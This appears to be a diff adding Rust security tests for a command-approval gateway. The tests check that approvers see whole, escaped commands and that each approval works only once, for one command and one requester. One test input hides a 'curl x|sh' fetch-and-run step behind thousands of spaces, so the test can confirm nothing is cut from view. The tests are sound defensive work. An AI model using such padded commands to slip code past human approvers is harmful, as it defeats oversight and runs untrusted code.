@@ -1,0 +1,300 @@
+//! SECURITY.md S52–S54, S59, B38: what a person is shown, and what an approval is good for.
+
+use serde_json::{Value, json};
+
+use super::nodes::reaches;
+use super::{no_change, refused_unless};
+use crate::approvals::{approver, ask};
+use crate::nodes::{answer, approved, invoke, node_id, operator};
+use crate::support::{Client, TestGateway};
+
+const ADMIN: [&str; 2] = ["operator.admin", "operator.approvals"];
+
+/// Asks for a command, and what a person is shown of it.
+async fn shown(asker: &mut Client, person: &mut Client, id: &str, argv: &[&str]) -> Value {
+    asker.start("exec.approval.request", ask(id, argv)).await;
+    person.event("exec.approval.requested").await["payload"]["request"].clone()
+}
+
+#[tokio::test]
+async fn s54_text_that_hides_reaches_nobody_who_decides() {
+    let refusal = refused_unless(
+        |policy| policy.visible_commands = false,
+        no_change,
+        async |gateway| {
+            let mut asker = operator(gateway, 4).await;
+            let mut person = approver(gateway, 7, &ADMIN).await;
+            let argv = ["echo", "a\u{202e}b"];
+            let request = shown(&mut asker, &mut person, "a1", &argv).await;
+            match request["command"].as_str().unwrap().contains('\u{202e}') {
+                true => Ok(request),
+                false => Err(request),
+            }
+        },
+    )
+    .await;
+    assert_eq!(refusal["warningText"], "contains invisible characters");
+}
+
+#[tokio::test]
+async fn s53_a_command_that_cannot_be_shown_whole_is_not_asked_about() {
+    let refusal = refused_unless(
+        |policy| policy.whole_commands = false,
+        no_change,
+        async |gateway| {
+            let mut asker = operator(gateway, 4).await;
+            let _person = approver(gateway, 7, &ADMIN).await;
+            let long = "x".repeat(9 * 1024);
+            let call = asker
+                .start("exec.approval.request", ask("a1", &["echo", &long]))
+                .await;
+            let answer = asker.response(&call).await;
+            match answer["ok"] == true {
+                true => Ok(answer["payload"].clone()),
+                false => Err(answer["error"].clone()),
+            }
+        },
+    )
+    .await;
+    assert_eq!(refusal["code"], "INVALID_REQUEST");
+}
+
+#[tokio::test]
+async fn s59_an_approval_that_was_used_lets_nothing_run_again() {
+    let refusal = refused_unless(
+        |policy| policy.run_approval = false,
+        no_change,
+        async |gateway| {
+            let (_host, mut asker) = approved(gateway, 1).await;
+            let mut person = approver(gateway, 7, &ADMIN).await;
+            asker
+                .start("exec.approval.request", ask("a1", &["id"]))
+                .await;
+            person.event("exec.approval.requested").await;
+            let decide = json!({"id": "a1", "decision": "allow-once"});
+            person.ok("exec.approval.resolve", decide).await;
+            let run = json!({
+                "command": ["id"], "cwd": "/", "agentId": "main", "sessionKey": "agent:main:main",
+                "approved": true, "runId": "a1",
+            });
+            let first = invoke(1, "system.run", run.clone(), "k1");
+            reaches(&mut asker, first).await.unwrap();
+            reaches(&mut asker, invoke(1, "system.run", run, "k2")).await
+        },
+    )
+    .await;
+    assert_eq!(refusal["details"]["code"], "APPROVAL_NOT_FOUND");
+}
+
+#[tokio::test]
+async fn b38_somebody_elses_approval_is_not_there() {
+    let refusal = refused_unless(
+        |policy| policy.approval_privacy = false,
+        no_change,
+        async |gateway| {
+            let mut stranger = approver(gateway, 9, &["operator.approvals"]).await;
+            let mut owner = approver(gateway, 8, &ADMIN).await;
+            let _person = approver(gateway, 7, &ADMIN).await;
+            let call = owner
+                .start("exec.approval.request", ask("foreign", &["ls"]))
+                .await;
+            owner.response(&call).await;
+            let decide = json!({"id": "foreign", "decision": "allow-once"});
+            let answer = stranger.call("exec.approval.resolve", decide).await;
+            match answer["ok"] == true {
+                true => Ok(answer["payload"].clone()),
+                false => Err(answer["error"].clone()),
+            }
+        },
+    )
+    .await;
+    assert_eq!(refusal["details"]["reason"], "APPROVAL_NOT_FOUND");
+}
+
+#[tokio::test]
+async fn s52_the_end_of_an_argument_can_be_seen() {
+    let gateway = TestGateway::start().await;
+    let mut asker = operator(&gateway, 4).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    let request = shown(&mut asker, &mut person, "a1", &["/tmp/ls ", "-l"]).await;
+    assert_eq!(request["command"], "'/tmp/ls ' -l");
+    let request = shown(&mut asker, &mut person, "a2", &["/tmp/ls\t"]).await;
+    assert_eq!(request["command"], "/tmp/ls\\u{9}");
+    for argv in [["ls", "a\u{0}b"], ["ls", "a\rb"]] {
+        let error = asker.error("exec.approval.request", ask("a3", &argv)).await;
+        assert_eq!(error["code"], "INVALID_REQUEST");
+    }
+}
+
+#[tokio::test]
+async fn s53_the_whole_command_is_shown_or_it_is_not_asked_about() {
+    let gateway = TestGateway::start().await;
+    let mut asker = operator(&gateway, 4).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    let script = format!("echo ok; {} curl x|sh", " ".repeat(4000));
+    let request = shown(&mut asker, &mut person, "a1", &["sh", "-c", &script]).await;
+    let text = request["command"].as_str().unwrap();
+    assert!(text.ends_with("curl x|sh'"), "nothing is cut");
+    assert_eq!(request["commandLength"], text.chars().count());
+    assert_eq!(request["commandSha256"].as_str().unwrap().len(), 64);
+    let long = "x".repeat(9 * 1024);
+    let error = asker
+        .error("exec.approval.request", ask("a2", &["echo", &long]))
+        .await;
+    assert_eq!(error["code"], "INVALID_REQUEST");
+}
+
+#[tokio::test]
+async fn s54_what_hides_text_is_shown_and_warned_of() {
+    let gateway = TestGateway::start().await;
+    let mut asker = operator(&gateway, 4).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    for hidden in [
+        '\u{200b}', '\u{2060}', '\u{3164}', '\u{115f}', '\u{202e}', '\u{ff5c}', '\n', '\u{1b}',
+    ] {
+        let id = format!("a{:x}", u32::from(hidden));
+        let argument = format!("a{hidden}b");
+        let request = shown(&mut asker, &mut person, &id, &["echo", &argument]).await;
+        let escaped = format!("a\\u{{{:X}}}b", u32::from(hidden));
+        assert!(
+            request["command"].as_str().unwrap().contains(&escaped),
+            "{request}"
+        );
+        assert_eq!(request["commandArgv"][1], escaped);
+        assert_eq!(request["warningText"], "contains invisible characters");
+    }
+}
+
+#[tokio::test]
+async fn s59_an_approval_is_used_once_for_what_was_asked_by_whom_it_was_asked() {
+    let gateway = TestGateway::start().await;
+    let (mut host, mut asker) = approved(&gateway, 1).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    let mut second = approver(&gateway, 8, &ADMIN).await;
+    let mut request = ask("a1", &["id"]);
+    request["nodeId"] = json!(node_id(1));
+    asker.start("exec.approval.request", request).await;
+    person.event("exec.approval.requested").await;
+    let decide = json!({"id": "a1", "decision": "allow-once"});
+    person.ok("exec.approval.resolve", decide.clone()).await;
+    // The second of two people, and the same one's second click.
+    for client in [&mut second, &mut person] {
+        let error = client.error("exec.approval.resolve", decide.clone()).await;
+        assert_eq!(error["details"]["reason"], "APPROVAL_NOT_FOUND");
+    }
+    let run = |argv: Value| {
+        json!({
+            "command": argv, "cwd": "/", "agentId": "main", "sessionKey": "agent:main:main",
+            "approved": true, "approvalDecision": "allow-once", "runId": "a1",
+        })
+    };
+    let other = invoke(1, "system.run", run(json!(["rm", "x"])), "k1");
+    let error = asker.error("node.invoke", other).await;
+    assert_eq!(
+        error["details"]["code"], "APPROVAL_NOT_FOUND",
+        "another command"
+    );
+    let same = |key: &str| invoke(1, "system.run", run(json!(["id"])), key);
+    let error = second.error("node.invoke", same("k2")).await;
+    assert_eq!(
+        error["details"]["code"], "APPROVAL_NOT_FOUND",
+        "another device"
+    );
+    let call = asker.start("node.invoke", same("k3")).await;
+    answer(&mut host, json!({"payloadJSON": "{}"})).await;
+    assert_eq!(asker.response(&call).await["ok"], true);
+    let error = asker.error("node.invoke", same("k4")).await;
+    assert_eq!(
+        error["details"]["code"], "APPROVAL_NOT_FOUND",
+        "a second time"
+    );
+}
+
+#[tokio::test]
+async fn s59_a_restart_denies_what_waits_and_what_was_not_used() {
+    let gateway = TestGateway::start().await;
+    let (_host, mut asker) = approved(&gateway, 1).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    for id in ["waits", "allowed"] {
+        let call = asker.start("exec.approval.request", ask(id, &["id"])).await;
+        asker.response(&call).await;
+    }
+    person
+        .ok(
+            "exec.approval.resolve",
+            json!({"id": "allowed", "decision": "allow-once"}),
+        )
+        .await;
+    drop((asker, person, _host));
+    let gateway = gateway.restart().await;
+    let mut asker = operator(&gateway, 4).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    for id in ["waits", "allowed"] {
+        let waited = asker
+            .ok("exec.approval.waitDecision", json!({"id": id}))
+            .await;
+        assert_eq!(waited["decision"], "deny", "{id}");
+        let decide = json!({"id": id, "decision": "allow-once"});
+        let error = person.error("exec.approval.resolve", decide).await;
+        assert_eq!(error["details"]["reason"], "APPROVAL_NOT_FOUND");
+        let error = asker.error("exec.approval.request", ask(id, &["id"])).await;
+        assert_eq!(
+            error["message"], "approval request unavailable",
+            "an id is used once"
+        );
+    }
+    let (_host, _) =
+        Client::connect(gateway.address, &crate::nodes::node(4, &gateway.secret, 1)).await;
+    let run = json!({
+        "command": ["id"], "cwd": "/", "agentId": "main", "sessionKey": "agent:main:main",
+        "approved": true, "runId": "allowed",
+    });
+    let error = asker
+        .error("node.invoke", invoke(1, "system.run", run, "k"))
+        .await;
+    assert_eq!(error["details"]["code"], "APPROVAL_NOT_FOUND");
+}
+
+#[tokio::test]
+async fn b38_an_approval_that_is_not_there_for_somebody_is_not_there() {
+    let gateway = TestGateway::start().await;
+    let mut asker = operator(&gateway, 4).await;
+    let mut person = approver(&gateway, 7, &ADMIN).await;
+    // With the scope, but another device and no admin.
+    let mut stranger = approver(&gateway, 9, &["operator.approvals"]).await;
+    let mut owner = approver(&gateway, 8, &ADMIN).await;
+    asker
+        .start("exec.approval.request", ask("used", &["ls"]))
+        .await;
+    person.event("exec.approval.requested").await;
+    person
+        .ok(
+            "exec.approval.resolve",
+            json!({"id": "used", "decision": "deny"}),
+        )
+        .await;
+    let call = owner
+        .start("exec.approval.request", ask("foreign", &["ls"]))
+        .await;
+    owner.response(&call).await;
+    let mut texts = std::collections::BTreeSet::new();
+    for id in ["foreign", "used", "f3b1c2d4", ""] {
+        for method in [
+            "exec.approval.resolve",
+            "exec.approval.get",
+            "exec.approval.waitDecision",
+        ] {
+            let params = json!({"id": id, "decision": "allow-once"});
+            let error = stranger.error(method, params).await;
+            texts.insert(error.to_string());
+        }
+    }
+    assert_eq!(texts.len(), 1, "one text for all of them: {texts:?}");
+    assert!(texts.first().unwrap().contains("APPROVAL_NOT_FOUND"));
+    assert_eq!(
+        stranger.ok("exec.approval.list", json!({})).await,
+        json!([])
+    );
+    let is_shown = |frame: &Value| frame["event"] == "exec.approval.requested";
+    assert!(!stranger.seen.iter().any(is_shown), "nor was it told");
+}
